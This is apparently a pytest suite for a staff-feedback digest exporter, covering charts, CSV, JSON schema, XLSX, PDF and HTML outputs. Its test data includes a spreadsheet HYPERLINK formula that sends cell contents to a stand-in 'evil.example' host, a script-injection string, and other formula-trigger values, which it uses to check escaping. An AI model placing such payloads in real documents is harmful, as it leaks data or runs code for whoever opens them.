import copy
import csv
import hashlib
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile

import pytest
from bs4 import BeautifulSoup
from jsonschema import Draft202012Validator
from pypdf import PdfReader

from challenges.catalogue import CHALLENGES
from challenges.csv_safety import FORMULA_TRIGGERS
from challenges.digests.charts import bar_chart_svg, line_chart_svg
from challenges.digests.exports import (
    JSON_SCHEMA,
    data_dictionary_csv,
    digest_csv,
    digest_html,
    digest_json,
    digest_pdf,
    digest_sha256,
    digest_xlsx,
)
from challenges.digests.schema import SCHEMA_ID

SVG = "{http://www.w3.org/2000/svg}"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATIONSHIPS = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
A4_POINTS = (595.276, 841.89)

TITLE = "Care voices digest: March 2025 – rotas & café breaks"
WEEKS = ["2025-03-03", "2025-03-10", "2025-03-17", "2025-03-24"]
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Pay rise")'
SCRIPT = "<script>alert('x')</script> Rotas & breaks at the café, naïve managers"
# Each starts with a character that a spreadsheet reads as the start of a formula.
DANGEROUS_QUOTES = [
    HYPERLINK,
    "+1 to everything said above",
    "-2 nurses on the night shift, again",
    "@x told me to keep quiet",
    "\tIndented with a tab",
    "\rStarts with a carriage return",
    "\nStarts with a line feed\nand goes on",
]
DANGEROUS_TOPIC = "-2 nurses a shift"
DANGEROUS_UNION = "@union"
SHA256_FOR_PRINTING = "ab" * 32


def weekly(cells, total):
    return {
        "rows": ["Contributions"],
        "columns": WEEKS,
        "cells": [cells],
        "row_totals": [total],
        "column_totals": list(cells),
        "grand_total": total,
    }


def quote(text, kind="typical", endorsements=12):
    return {
        "text": text,
        "kind": kind,
        "topic": "Staffing",
        "facts": ["Nurse", "North West"],
        "endorsements": endorsements,
    }


def challenge(number, figure, share, cells, total, sentiment, quotes=(), topics=()):
    value, previous, change = figure
    negative, neutral, positive, basis = sentiment
    return {
        "number": number,
        "title": CHALLENGES[number - 1].title,
        "contributions": {"value": value, "previous": previous, "change": change},
        "share": share,
        "weekly": weekly(cells, total),
        "sentiment": {
            "negative": negative,
            "neutral": neutral,
            "positive": positive,
            "basis": basis,
        },
        "themes": {
            "distinctive_terms": ["rota", "breaks"],
            "rising_terms": ["agency"] if number == 1 else [],
            "topics": list(topics),
        },
        "quotes": list(quotes),
    }


def breakdown(rows, cells):
    row_totals = [None if None in line else sum(line) for line in cells]
    return {
        "rows": rows,
        "columns": ["Challenges 1 to 3", "Challenges 4 to 6"],
        "cells": cells,
        "row_totals": row_totals,
        "column_totals": [None, 150],
        "grand_total": 260,
    }


HIDDEN_SENTIMENT = (None, None, None, None)
DIGEST = {
    "schema": SCHEMA_ID,
    "title": TITLE,
    "period": {"start": "2025-03-01", "end": "2025-03-31", "label": "March 2025"},
    "previous_period": {"start": "2025-01-29", "end": "2025-02-28", "label": "February 2025"},
    "filters": {
        "challenge": None,
        "round": None,
        "sector": None,
        "staff_group": None,
        "region": None,
        "union": None,
    },
    "threshold": 10,
    "rounding": None,
    "headline": {
        "contributions": {"value": 260, "previous": 270, "change": -10},
        "endorsements": {"value": 1310, "previous": None, "change": None},
        "comments": {"value": None, "previous": 60, "change": None},
    },
    "challenges": [
        challenge(
            1,
            (60, 50, 10),
            0.23,
            [15, None, 20, None],
            60,
            (0.4, 0.35, 0.25, 60),
            quotes=[quote(HYPERLINK, "most_endorsed", 31), quote(DANGEROUS_QUOTES[1])],
            topics=[
                {"label": DANGEROUS_TOPIC, "terms": ["nights", "=SUM(A1:A9)"], "size": 30},
                {"label": "Breaks", "terms": ["breaks"], "size": None},
            ],
        ),
        challenge(
            2,
            (None, 12, None),
            None,
            [None, None, None, None],
            None,
            HIDDEN_SENTIMENT,
            quotes=[quote(SCRIPT, endorsements=None)],
        ),
        challenge(3, (45, 45, 0), 0.17, [10, 12, 11, 12], 45, (0.2, 0.5, 0.3, 45)),
        challenge(
            4,
            (None, None, None),
            None,
            [None, 0, None, None],
            None,
            HIDDEN_SENTIMENT,
            quotes=[quote(DANGEROUS_QUOTES[2])],
        ),
        challenge(
            5,
            (95, 110, -15),
            0.37,
            [20, 25, 30, 20],
            95,
            (0.55, 0.3, 0.15, 95),
            quotes=[quote(DANGEROUS_QUOTES[3]), quote(DANGEROUS_QUOTES[4])],
        ),
        challenge(
            6,
            (40, None, None),
            0.15,
            [10, 10, 10, 10],
            40,
            (0.1, 0.6, 0.3, 40),
            quotes=[quote(DANGEROUS_QUOTES[5]), quote(DANGEROUS_QUOTES[6])],
        ),
    ],
    "breakdowns": {
        "sector": breakdown(["NHS", "Social care"], [[None, 90], [None, 60]]),
        "staff_group": breakdown(["Nursing", "Care work"], [[None, 80], [None, 70]]),
        "region": breakdown(["North West", "Yorkshire & the Humber"], [[None, 75], [None, 75]]),
        "union": breakdown(["UNISON", DANGEROUS_UNION], [[None, 100], [None, 50]]),
    },
    "methodology": [
        "Figures count contributions published in the period.",
        "Counts below 10 are hidden, and so are figures that would reveal them.",
    ],
}
AUDIENCE = "Ministers"
PUBLISHED = {**DIGEST, "version": 3, "sha256": SHA256_FOR_PRINTING, "audience": AUDIENCE}

# Keys that hold numbers which are not figures: identifiers, settings and quote details.
NOT_FIGURES = {"number", "threshold", "rounding", "filters", "quotes", "period", "previous_period"}


def figure_values(node, key=None):
    """Every figure in the digest, found by walking it rather than by the code under test."""
    if key in NOT_FIGURES:
        return
    if isinstance(node, dict):
        for child_key, child in node.items():
            yield from figure_values(child, child_key)
    elif isinstance(node, list):
        for child in node:
            yield from figure_values(child, key)
    elif node is None or isinstance(node, int | float):
        yield node


def one_line(text):
    return " ".join(text.split())


# Charts


def svg_root(svg):
    return ET.fromstring(svg)  # noqa: S314 -- our own output, not untrusted input


def test_chart_svg_is_an_image_named_by_its_title_and_described():
    root = svg_root(bar_chart_svg("Contributions by challenge", ["One", "Two"], [12, 30]))
    title, desc = root.find(f"{SVG}title"), root.find(f"{SVG}desc")

    assert root.get("role") == "img"
    assert title.text == "Contributions by challenge"
    assert desc.text == "Bar chart. One: 12; Two: 30."
    assert root.get("aria-labelledby") == f"{title.get('id')} {desc.get('id')}"


def test_bar_chart_draws_a_hidden_value_as_a_gap_marked_hidden_not_a_bar():
    root = svg_root(bar_chart_svg("Counts", ["a", "b", "c"], [5, None, 3]))
    texts = [text.text for text in root.iter(f"{SVG}text")]

    assert len(root.findall(f"{SVG}rect")) == 2
    assert "hidden" in texts
    assert "0" not in texts
    assert "b: hidden to protect anonymity" in root.find(f"{SVG}desc").text


def test_line_chart_breaks_the_line_at_hidden_values_and_marks_each_gap():
    labels = ["w1", "w2", "w3", "w4", "w5", "w6"]
    root = svg_root(line_chart_svg("Weekly", labels, [1, 2, None, 4, 5, None]))
    lines = root.findall(f"{SVG}polyline")
    dashed = [line for line in root.iter(f"{SVG}line") if line.get("stroke-dasharray")]

    assert len(lines) == 2
    assert len(root.findall(f"{SVG}circle")) == 4
    # One dashed line through each gap, and one in the key that explains them.
    assert len(dashed) == 2 + 1
    assert "hidden to protect anonymity" in [text.text for text in root.iter(f"{SVG}text")]


def test_line_chart_without_hidden_values_has_no_key():
    root = svg_root(line_chart_svg("Weekly", ["w1", "w2"], [3, 4]))

    assert "hidden" not in "".join(text.text for text in root.iter(f"{SVG}text"))


def test_line_chart_of_only_hidden_values_draws_no_line_and_no_point():
    root = svg_root(line_chart_svg("Weekly", ["w1", "w2"], [None, None]))

    assert root.findall(f"{SVG}polyline") == root.findall(f"{SVG}circle") == []


def test_chart_text_is_escaped():
    title = "<script>alert(1)</script> & co"
    svg = bar_chart_svg(title, ["<b>label</b>"], [3])

    assert "<script>" not in svg and "<b>" not in svg
    assert svg_root(svg).find(f"{SVG}title").text == title


def test_charts_load_nothing_from_elsewhere():
    for svg in (bar_chart_svg("t", ["a"], [1]), line_chart_svg("t", ["a"], [1])):
        assert not re.search(r"<script|href|url\(|@import|<image", svg)


# CSV


def csv_rows(text):
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture(scope="module")
def tidy():
    header, *rows = csv_rows(digest_csv(DIGEST))
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def test_csv_has_a_tidy_header_and_one_row_per_figure(tidy):
    header, rows = tidy

    assert header == [
        "section",
        "challenge",
        "challenge_title",
        "table",
        "row",
        "column",
        "measure",
        "value",
    ]
    assert len(rows) == len(list(figure_values(DIGEST)))


def test_csv_writes_suppressed_figures_as_suppressed_and_real_zeros_as_0(tidy):
    _, rows = tidy
    values = [row["value"] for row in rows]
    expected = list(figure_values(DIGEST))

    assert values.count("suppressed") == expected.count(None)
    assert values.count("0") == sum(1 for value in expected if value == 0)
    hidden_week = next(
        row
        for row in rows
        if row["challenge"] == "4" and row["table"] == "weekly" and row["column"] == WEEKS[1]
    )
    assert hidden_week["row"] == "Contributions" and hidden_week["value"] == "0"


def test_csv_figures_name_where_they_come_from(tidy):
    _, rows = tidy
    places = {(row["challenge"], row["table"], row["row"], row["column"]): row for row in rows}

    assert places["", "headline", "Contributions", "This period"]["value"] == "260"
    assert places["", "headline", "Contributions", "Change"]["value"] == "-10"
    assert places["2", "contributions", "Contributions", "This period"]["value"] == "suppressed"
    assert places["1", "sentiment", "Sentiment", "Negative"]["value"] == "0.4"
    assert places["", "sector", "Total", "Total"]["value"] == "260"


def test_every_text_cell_in_the_csv_is_safe_from_formula_injection(tidy):
    _, rows = tidy

    for row in rows:
        for column, cell in row.items():
            if column == "value":
                # Real numbers may start with "-"; anything else is the word "suppressed".
                assert cell == "suppressed" or re.fullmatch(r"-?\d+(\.\d+)?", cell), cell
            else:
                assert not cell.startswith(FORMULA_TRIGGERS), (column, cell)
    labels = {row["row"] for row in rows}
    assert f"'{DANGEROUS_TOPIC}" in labels and f"'{DANGEROUS_UNION}" in labels


def test_data_dictionary_describes_every_column_measure_and_table(tidy):
    header, rows = tidy
    entries = csv_rows(data_dictionary_csv())
    described = {(kind, name) for name, kind, description in entries[1:] if description}

    assert entries[0] == ["name", "kind", "description"]
    assert {name for kind, name in described if kind == "column"} == set(header)
    assert {row["measure"] for row in rows} <= {
        name for kind, name in described if kind == "measure"
    }
    assert {row["table"] for row in rows} <= {name for kind, name in described if kind == "table"}


# JSON


def test_json_is_canonical_utf8_with_sorted_keys_and_no_spaces():
    text = digest_json(DIGEST)
    reordered = dict(reversed(list(DIGEST.items())))

    assert text == json.dumps(
        json.loads(text), sort_keys=True, ensure_ascii=False, separators=(",", ":")
    )
    assert "café" in text
    assert digest_json(reordered) == text


def test_sha256_is_of_the_json_utf8_bytes_and_follows_the_content():
    changed = copy.deepcopy(DIGEST)
    changed["headline"]["contributions"]["value"] = 261

    assert digest_sha256(DIGEST) == hashlib.sha256(digest_json(DIGEST).encode()).hexdigest()
    assert digest_sha256(copy.deepcopy(DIGEST)) == digest_sha256(DIGEST)
    assert digest_sha256(changed) != digest_sha256(DIGEST)


def test_sha256_covers_the_version_but_not_the_hash_itself_nor_the_audience():
    versioned = {**DIGEST, "version": 3}

    assert digest_sha256(PUBLISHED) == digest_sha256(versioned) != digest_sha256(DIGEST)
    assert json.loads(digest_json(PUBLISHED)).keys() == versioned.keys()


def test_schema_is_valid_draft_2020_12_and_the_json_matches_it():
    Draft202012Validator.check_schema(JSON_SCHEMA)
    validator = Draft202012Validator(JSON_SCHEMA)

    assert JSON_SCHEMA["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    validator.validate(json.loads(digest_json(DIGEST)))
    validator.validate(json.loads(digest_json(PUBLISHED)))


@pytest.mark.parametrize(
    "spoil",
    [
        lambda digest: digest["headline"]["comments"].update(value="suppressed"),
        lambda digest: digest["challenges"][0]["weekly"]["cells"][0].__setitem__(0, -1),
        lambda digest: digest["challenges"][0].__setitem__("share", 1.5),
        lambda digest: digest.pop("methodology"),
        lambda digest: digest.update(extra="not in the contract"),
        lambda digest: digest["challenges"].pop(),
    ],
    ids=["text-for-a-count", "negative-count", "share-over-1", "missing-key", "extra-key", "five"],
)
def test_schema_rejects_content_that_breaks_the_contract(spoil):
    spoiled = copy.deepcopy(DIGEST)
    spoil(spoiled)

    assert not Draft202012Validator(JSON_SCHEMA).is_valid(json.loads(digest_json(spoiled)))


# XLSX


def xml_of(archive, name):
    return ET.fromstring(archive.read(name))  # noqa: S314 -- our own output


@pytest.fixture(scope="module")
def workbook():
    return zipfile.ZipFile(io.BytesIO(digest_xlsx(DIGEST)))


def sheet_paths(archive):
    targets = {
        relation.get("Id"): relation.get("Target")
        for relation in xml_of(archive, "xl/_rels/workbook.xml.rels")
    }
    return {
        sheet.get("name"): "xl/" + targets[sheet.get(f"{RELATIONSHIPS}id")]
        for sheet in xml_of(archive, "xl/workbook.xml").iter(f"{SHEET}sheet")
    }


def shared_strings(archive):
    return [
        "".join(text.text or "" for text in item.iter(f"{SHEET}t"))
        for item in xml_of(archive, "xl/sharedStrings.xml").iter(f"{SHEET}si")
    ]


def sheet_cells(archive, name):
    """The sheet's cells by reference: numbers as floats, shared strings as their text."""
    strings = shared_strings(archive)
    cells = {}
    for cell in xml_of(archive, sheet_paths(archive)[name]).iter(f"{SHEET}c"):
        value = cell.find(f"{SHEET}v")
        if value is not None:
            is_text = cell.get("t") == "s"
            cells[cell.get("r")] = strings[int(value.text)] if is_text else float(value.text)
    return cells


def test_xlsx_has_a_sheet_for_each_table_with_names_excel_accepts(workbook):
    names = list(sheet_paths(workbook))

    assert names == [
        "Headline",
        "Challenges",
        "Weekly",
        "Breakdown - sector",
        "Breakdown - staff group",
        "Breakdown - region",
        "Breakdown - union",
        "Themes",
        "Quotes",
        "Methodology",
        "Figures",
        "Data dictionary",
    ]
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in names)


def test_xlsx_keeps_dangerous_text_as_shared_strings_never_formulas(workbook):
    sheets = sheet_paths(workbook).values()

    assert not any(
        b"<f>" in workbook.read(path) or b"<f " in workbook.read(path) for path in sheets
    )
    strings = shared_strings(workbook)
    assert HYPERLINK in strings
    assert DANGEROUS_UNION in strings and "=SUM(A1:A9)" in ", ".join(strings)


def test_xlsx_writes_numbers_as_numbers_and_suppressed_as_text(workbook):
    headline = sheet_cells(workbook, "Headline")

    assert [headline[ref] for ref in ("A1", "B1", "C1", "D1")] == [
        "Figure",
        "This period",
        "Previous period",
        "Change",
    ]
    assert headline["B2"] == 260 and headline["D2"] == -10
    assert headline["A3"] == "Endorsements" and headline["C3"] == "suppressed"
    assert headline["B4"] == "suppressed"


def test_xlsx_challenges_sheet_has_a_row_per_challenge(workbook):
    challenges = sheet_cells(workbook, "Challenges")

    assert [challenges[f"A{row}"] for row in range(2, 8)] == [1, 2, 3, 4, 5, 6]
    assert challenges["C3"] == "suppressed"
    assert challenges["C2"] == 60


# PDF


@pytest.fixture(scope="module")
def briefing():
    return PdfReader(io.BytesIO(digest_pdf(PUBLISHED)))


def test_pdf_is_an_a4_document_of_several_pages(briefing):
    assert digest_pdf(DIGEST).startswith(b"%PDF")
    assert len(briefing.pages) >= 4
    for page in briefing.pages:
        box = page.mediabox
        assert float(box.width) == pytest.approx(A4_POINTS[0], abs=0.01)
        assert float(box.height) == pytest.approx(A4_POINTS[1], abs=0.01)


def test_pdf_title_page_names_the_digest_its_period_audience_version_and_hash(briefing):
    title_page = one_line(briefing.pages[0].extract_text())

    assert TITLE in title_page
    assert "March 2025 (1 March 2025 to 31 March 2025)" in title_page
    assert f"Audience {AUDIENCE}" in title_page
    assert "Version 3" in title_page
    assert SHA256_FOR_PRINTING in title_page
    assert briefing.metadata.title == TITLE


def test_pdf_summarises_and_shows_hidden_figures_as_hidden(briefing):
    text = one_line(" ".join(page.extract_text() for page in briefing.pages))

    assert "Contributions: 260 in March 2025, down 10 from 270 in February 2025." in text
    assert "Most contributions: 5. Getting the basics right" in text
    assert "Endorsements 1,310 hidden hidden" in text
    assert "alert('x')" in text and "café" in text


# HTML


@pytest.fixture(scope="module")
def page():
    return digest_html(PUBLISHED)


def test_html_charts_are_titled_images_each_followed_by_a_table_of_its_figures(page):
    charts = BeautifulSoup(page, "html.parser").select("figure.app-chart")

    assert len(charts) == 1 + len(DIGEST["challenges"])
    for chart, points in zip(charts, [len(DIGEST["challenges"])] + [len(WEEKS)] * 6, strict=True):
        svg = chart.find("svg", attrs={"role": "img"})
        assert svg.title.get_text(strip=True) == chart.figcaption.get_text(strip=True)
        assert svg.desc.get_text(strip=True)
        assert len(chart.find("table").tbody.find_all("tr")) == points


def test_html_chart_tables_hold_the_same_figures_as_the_charts(page):
    soup = BeautifulSoup(page, "html.parser")
    overview, *weekly = soup.select("figure.app-chart")

    def cells(chart):
        return [one_line(cell.get_text()) for cell in chart.select("tbody td")]

    assert cells(overview) == [
        "60",
        "hidden to protect anonymity",
        "45",
        "hidden to protect anonymity",
        "95",
        "40",
    ]
    assert (
        cells(weekly[3])
        == ["hidden to protect anonymity", "0"] + ["hidden to protect anonymity"] * 2
    )


def test_html_escapes_text_from_contributions(page):
    soup = BeautifulSoup(page, "html.parser")

    assert "<script" not in page
    assert "&lt;script&gt;alert" in page
    assert SCRIPT in soup.get_text()


def test_html_shows_hidden_for_suppressed_figures_never_zero(page):
    soup = BeautifulSoup(page, "html.parser")
    # Challenge 2's rows: in the chart's table, the contributions table and the sentiment table.
    rows = [row for row in soup.select("tr") if row.th and row.th.get_text().startswith("2. ")]
    cells = [one_line(cell.get_text()) for row in rows for cell in row.find_all("td")]
    hidden = "hidden to protect anonymity"

    assert cells == [hidden] + [hidden, "12", hidden, hidden] + [hidden] * 4


def test_html_is_self_contained_and_names_the_published_version(page):
    soup = BeautifulSoup(page, "html.parser")
    about = one_line(soup.select_one(".app-about").get_text(" "))

    assert not re.search(r"<link|<script|\bsrc=|@import|url\(", page)
    assert soup.html["lang"] == "en-GB" and soup.title.string == TITLE
    assert "Version 3" in about and SHA256_FOR_PRINTING in about
    assert "Audience" not in one_line(BeautifulSoup(digest_html(DIGEST), "html.parser").get_text())


# Summary


def test_summary_warns_that_hidden_challenges_could_be_larger(page):
    summary = [
        one_line(item.get_text())
        for item in BeautifulSoup(page, "html.parser").select("#summary + ul li")
    ]

    assert summary == [
        "Contributions: 260 in March 2025, down 10 from 270 in February 2025.",
        "Endorsements: 1,310 in March 2025; the comparison with February 2025 is hidden.",
        "Comments in March 2025: hidden to protect anonymity.",
        "Most contributions: 5. Getting the basics right (95, 37% of all contributions). "
        "The figures for 2 challenges are hidden and could be larger.",
        "Most negative in tone: 5. Getting the basics right (55% of 95 texts analysed read as "
        "negative). The figures for 2 challenges are hidden and could be larger.",
    ]
